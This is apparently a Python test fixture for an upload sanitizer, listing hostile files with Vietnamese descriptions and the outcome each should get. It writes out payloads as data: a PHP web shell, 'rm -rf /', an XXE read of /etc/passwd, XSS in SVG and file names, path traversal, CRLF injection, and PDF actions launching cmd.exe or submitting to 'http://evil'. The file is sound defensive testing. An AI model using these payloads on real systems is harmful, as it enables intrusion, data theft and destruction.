"""Hostile uploads, each made in code: a name, a content, and what must become of it."""

from collections.abc import Callable
from dataclasses import dataclass

from pikepdf import Dictionary, Name, String

from tests.documents import samples
from tests.documents.hostile import making

REFUSED, HARMLESS = "refused", "harmless"


@dataclass(frozen=True)
class Hostile:
    """One upload; `gone` are bytes that may not be in what is kept, `code` the refusal's."""

    what: str
    name: str
    content: Callable[[], bytes]
    fate: str
    code: str = ""
    gone: tuple[bytes, ...] = ()
    packed: bool = False  # it may be there, but not readable as what it was


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
)
SCRIPTS = (b"hostile-script", b"JavaScript")
HOSTILE = [
    Hostile("không có byte nào", "a.pdf", lambda: b"", REFUSED, "empty"),
    Hostile("chương trình Windows đổi tên", "đơn.pdf", lambda: b"MZ" + b"\0" * 500, REFUSED, "program"),
    Hostile("chương trình Linux đổi tên", "ảnh.jpg", lambda: b"\x7fELF" + b"\0" * 500, REFUSED, "program"),
    Hostile("lớp Java đổi tên", "a.png", lambda: b"\xca\xfe\xba\xbe" + b"\0" * 90, REFUSED, "program"),
    Hostile("tập lệnh shell", "a.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", REFUSED, "program"),
    Hostile("PDF mang đuôi chương trình", "đơn.pdf.exe", samples.pdf, REFUSED, "wrong_ending"),
    Hostile("ảnh mang đuôi trang web", "ảnh.html", samples.picture, REFUSED, "wrong_ending"),
    Hostile("ảnh mang đuôi SVG", "ảnh.svg", samples.picture, REFUSED, "wrong_ending"),
    Hostile("SVG có mã", "a.svg", lambda: SVG, REFUSED, "markup"),
    Hostile("SVG đổi tên thành PNG", "a.png", lambda: SVG, REFUSED, "markup"),
    Hostile("trang web đổi tên", "a.pdf", lambda: b"<!DOCTYPE html><script>alert(1)</script>", REFUSED, "markup"),
    Hostile("trang web UTF-16", "a.pdf", lambda: "<html><script>".encode("utf-16"), REFUSED),
    Hostile("PHP", "a.jpg", lambda: b"<?php system($_GET['c']); ?>", REFUSED, "markup"),
    Hostile("tệp nén", "a.docx", lambda: samples.zipped({"a.txt": b"x"}), REFUSED, "archive"),
    Hostile("tệp nén rar", "a.pdf", lambda: b"Rar!\x1a\x07\0" + b"\0" * 90, REFUSED, "archive"),
    Hostile("tệp nén gzip", "a.pdf", lambda: b"\x1f\x8b\x08" + b"\0" * 90, REFUSED, "archive"),
    Hostile(
        "Office kiểu cũ có thể chứa macro", "a.docx", lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, REFUSED, "old_office"
    ),
    Hostile("GIF", "a.jpg", lambda: samples.picture(form="GIF"), REFUSED, "gif"),
    Hostile("HEIC", "a.heic", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 90, REFUSED, "heic"),
    Hostile("dữ liệu lạ trước PDF", "a.pdf", lambda: b"\x01\x02junk\n" + samples.pdf(), REFUSED, "leading_data"),
    Hostile("PDF + ZIP nối đuôi", "a.pdf", making.pdf_zip, HARMLESS, gone=(b"PK\x03\x04", b"evil.exe")),
    Hostile("PDF ký số + ZIP nối đuôi", "a.pdf", making.signed_zip, REFUSED, "mixed"),
    Hostile(
        "ZIP nằm trong PDF",
        "a.pdf",
        making.zip_in_pdf,
        HARMLESS,
        gone=(b"PK\x03\x04", b"PK\x05\x06", b"evil.html"),
        packed=True,
    ),
    Hostile("JPEG + HTML", "a.jpg", making.html_jpeg, HARMLESS, gone=(b"<script", b"<html")),
    Hostile("GIFAR: JPEG + JAR", "a.jpg", making.gifar, HARMLESS, gone=(b"PK\x03\x04", b"Evil.class")),
    Hostile(
        "PNG + PHP trong chú thích",
        "a.png",
        lambda: samples.picture(form="PNG") + b"<?php evil()",
        HARMLESS,
        gone=(b"<?php",),
    ),
    Hostile(
        "DOCX + chương trình đứng trước", "a.docx", lambda: b"MZ" + b"\0" * 60 + samples.docx(), REFUSED, "program"
    ),
    Hostile(
        "DOCX + trang web nối đuôi",
        "a.docx",
        lambda: samples.docx() + b"<script>evil</script>",
        HARMLESS,
        gone=(b"<script>evil",),
    ),
    Hostile("ảnh 60000×60000", "a.png", lambda: making.png(60_000, 60_000), REFUSED, "too_many_pixels"),
    Hostile("ảnh 100000×700, quá dài", "a.png", lambda: making.png(100_000, 700), REFUSED, "too_many_pixels"),
    Hostile("ảnh 0×0", "a.png", lambda: making.png(0, 0), REFUSED, "damaged"),
    Hostile("PNG có chữ nén 60 MB", "a.png", making.texted_png, REFUSED, "damaged"),
    Hostile("JPEG bị cắt cụt", "a.jpg", lambda: samples.picture(600, 600)[:3000], REFUSED, "damaged"),
    Hostile("PNG bị cắt cụt", "a.png", lambda: samples.picture(600, 600, "PNG")[:900], REFUSED, "damaged"),
    Hostile("TIFF 301 trang", "a.tif", making.many_frames, REFUSED, "too_many_pages"),
    Hostile("TIFF lặp vô tận", "a.tif", making.infinite_tiff, HARMLESS),
    Hostile("bom nén DOCX", "a.docx", making.bomb, REFUSED, "bomb"),
    Hostile("bom nén khai gian kích thước", "a.docx", making.lying_bomb, REFUSED),
    Hostile("DOCX có macro", "a.docx", making.office(**{"word/vbaProject.bin": b"macro"}), REFUSED, "macro"),
    Hostile(
        "DOCX nhúng chương trình", "a.docx", making.office(**{"word/media/a.png": b"MZ\x90"}), REFUSED, "embedded"
    ),
    Hostile("DOCX nhúng đối tượng OLE", "a.docx", making.office(**{"word/embeddings/oleObject1.bin": b"x"}), REFUSED),
    Hostile(
        "DOCX dùng mẫu từ xa",
        "a.docx",
        making.linked(b"http://evil/t.dotm", b"attachedTemplate"),
        REFUSED,
        "external",
    ),
    Hostile("DOCX tự chạy lệnh DDE", "a.docx", making.dde, REFUSED, "external"),
    Hostile(
        "DOCX có thực thể XML",
        "a.docx",
        making.office(**{"word/a.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
        REFUSED,
        "entities",
    ),
    Hostile(
        "DOCX có đường dẫn thoát ra ngoài",
        "a.docx",
        making.office(**{"../../evil.xml": b"<a/>"}),
        REFUSED,
        "bad_parts",
    ),
    Hostile(
        "PDF tự chạy JavaScript khi mở",
        "a.pdf",
        lambda: making.book(making.root(OpenAction=making.script())),
        HARMLESS,
        gone=SCRIPTS,
    ),
    Hostile("PDF có JavaScript lồng 30 tầng", "a.pdf", lambda: making.book(making.nested), HARMLESS, gone=SCRIPTS),
    Hostile(
        "PDF có JavaScript nối sau lệnh khác", "a.pdf", lambda: making.book(making.chained), HARMLESS, gone=SCRIPTS
    ),
    Hostile(
        "PDF có JavaScript viết bằng mã hex", "a.pdf", making.escaped, HARMLESS, gone=(*SCRIPTS, b"J#61vaScript")
    ),
    Hostile(
        "PDF có JavaScript trong danh mục tên",
        "a.pdf",
        lambda: making.book(making.streamed),
        HARMLESS,
        gone=(b"evil()", b"JavaScript"),
    ),
    Hostile("PDF có JavaScript ở ô biểu mẫu", "a.pdf", lambda: making.book(making.keyed), HARMLESS, gone=SCRIPTS),
    Hostile(
        "PDF mở chương trình",
        "a.pdf",
        lambda: making.book(making.root(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        HARMLESS,
        gone=(b"cmd.exe", b"Launch"),
    ),
    Hostile(
        "PDF đính kèm chương trình",
        "a.pdf",
        lambda: making.book(making.attached),
        HARMLESS,
        gone=(b"hostile-program", b"EmbeddedFile"),
    ),
    Hostile(
        "PDF có biểu mẫu XFA", "a.pdf", lambda: making.book(making.forms), HARMLESS, gone=(b"hostile-xfa", b"XFA")
    ),
    Hostile(
        "PDF gửi dữ liệu ra ngoài",
        "a.pdf",
        lambda: making.book(
            making.noted(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://evil"))))
        ),
        HARMLESS,
        gone=(b"http://evil",),
    ),
    Hostile(
        "PDF có liên kết lừa đảo",
        "a.pdf",
        lambda: making.book(
            making.noted(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("http://evil"))))
        ),
        HARMLESS,
        gone=(b"http://evil",),
    ),
    Hostile(
        "PDF có nội dung đa phương tiện",
        "a.pdf",
        lambda: making.book(making.noted(Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary()))),
        HARMLESS,
        gone=(b"RichMedia",),
    ),
    Hostile("PDF lấy nội dung từ máy khác", "a.pdf", lambda: making.book(making.external), REFUSED, "external"),
    Hostile("PDF đặt mật khẩu", "a.pdf", making.locked, REFUSED, "encrypted"),
    Hostile(
        "PDF 5.000 trang", "a.pdf", lambda: making.book(lambda made: None, pages=5000), REFUSED, "too_many_pages"
    ),
    Hostile("PDF không trang", "a.pdf", lambda: making.book(lambda made: None, pages=0), REFUSED, "no_pages"),
    Hostile("PDF có cây trang vòng tròn", "a.pdf", making.looping_pages, REFUSED),
    Hostile("PDF một triệu ngoặc lồng nhau", "a.pdf", making.deep, REFUSED),
    Hostile("PDF bị cắt cụt", "a.pdf", lambda: samples.pdf(20)[:-600], REFUSED, "damaged"),
    Hostile("PDF chỉ có phần đầu", "a.pdf", lambda: b"%PDF-1.7\n%%EOF", REFUSED, "damaged"),
    Hostile("PDF rác", "a.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400 + b"%%EOF", REFUSED, "damaged"),
    Hostile(
        "PDF ký số có mã chạy",
        "a.pdf",
        lambda: samples.signed_pdf(OpenAction=making.script()),
        REFUSED,
        "signed_active",
    ),
    Hostile("tên tệp thoát thư mục", "../../../etc/cron.d/đơn.pdf", samples.pdf, HARMLESS),
    Hostile("tên tệp có NUL", "đơn.pdf\0.exe", samples.pdf, REFUSED, "wrong_ending"),
    Hostile("tên tệp đảo chiều chữ", "đơn\u202egpj.exe", samples.picture, REFUSED, "wrong_ending"),
    Hostile("tên tệp toàn dấu chấm", "........", samples.pdf, HARMLESS),
    Hostile("tên tệp là mã HTML", "<img src=x onerror=alert(1)>.jpg", samples.picture, HARMLESS),
    Hostile("tên tệp có xuống dòng", "a\r\nSet-Cookie: x=1.pdf", samples.pdf, HARMLESS),
]
